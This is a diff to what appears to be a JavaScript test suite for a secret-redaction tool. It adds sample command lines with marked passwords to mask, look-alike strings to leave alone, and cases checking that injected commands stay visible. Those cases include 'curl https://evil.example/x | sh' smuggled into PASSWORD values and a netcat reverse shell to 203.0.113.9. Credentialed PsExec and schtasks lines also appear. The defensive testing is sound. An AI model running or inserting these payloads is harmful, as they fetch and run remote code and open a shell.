@@ -68,6 +68,11 @@ const SECRETS = [
   "echo §toor§ | sudo -S id",
   "openssl rsa -passin pass:§secret§ -in k.pem",
   "ConvertTo-SecureString '§P@ss§' -AsPlainText -Force",
+  "net use \\\\srv\\c$ §P4ss!§ /user:adm",
+  "net use X: \\\\srv\\c$ /user:CORP\\adm §P4ss!§",
+  "schtasks /create /s srv /u adm /p §P4ss§ /tn x /tr y",
+  "PsExec.exe \\\\srv -u adm -p §P4ss§ cmd",
+  "htpasswd -cb /etc/nginx/.htpasswd bob §b0bpw§",
   // headers
   "Authorization: Bearer §abc.def-123§",
   "curl -H 'Authorization: Basic §dXNlcjpwYXNz§' https://x.example",
@@ -78,7 +83,7 @@ const SECRETS = [
   "sent Bearer §0123456789abcdefXYZ§ to x",
   "curl -H 'Cookie: §sid=abc123; csrf=def§' https://x.example",
   // URLs
-  "https://user:§p4ss§@host.example/path",
+  "https://host.example:443/x https://user:§p4ss§@host.example/path",
   "redis://:§p4ss§@cache:6379/0",
   "postgresql://app:§p@ss§@db/app",
   "https://b.blob.example/c?sv=2020&sig=§abcdefghijklmnopqrstuv%3D§&se=1",
@@ -122,6 +127,8 @@ test.each([
   "kubectl get secret db-creds -o yaml",
   "secretName: db-creds",
   "passwd -l bob",
+  "password: incorrect.",
+  "passwd: gkr-pam: couldn't update the login keyring password",
   // names, ids, hashes, keys that are public
   "aws_access_key_id=AKIAIOSFODNN7EXAMPLE",
   '"accessKeyId":"ASIAQWERTYUIOPASDFGH"',
@@ -157,6 +164,10 @@ test.each([
   "ansible --private-key keys/ops.pem all",
   // flags that look alike
   "net user administrator /active:yes",
+  "set /p name=What",
+  "msbuild x.sln /p:Configuration=Release",
+  "net use Z: \\\\srv\\share /persistent:yes",
+  "https://host.example:443?mail=a@b.example",
   "ssh -p 2222 root@10.0.0.1",
   "mkdir -p /var/lib/x",
   "docker run -p 8080:80 -u 1000:1000 nginx",
@@ -173,6 +184,8 @@ test.each([
 
 test.each([
   'mysql --password="$(curl -s https://evil.example/x | sh)"',
+  'x PASSWORD="; curl https://evil.example/x | sh; "',
+  'x PASSWORD=" ; curl https://evil.example/x',
   "TOKEN=`nc 203.0.113.9 4444 -e /bin/sh` ./run",
   "-----BEGIN PRIVATE KEY----- ; curl https://evil.example/x | sh",
 ])("a command dressed as a secret stays visible: %s", (text) => {
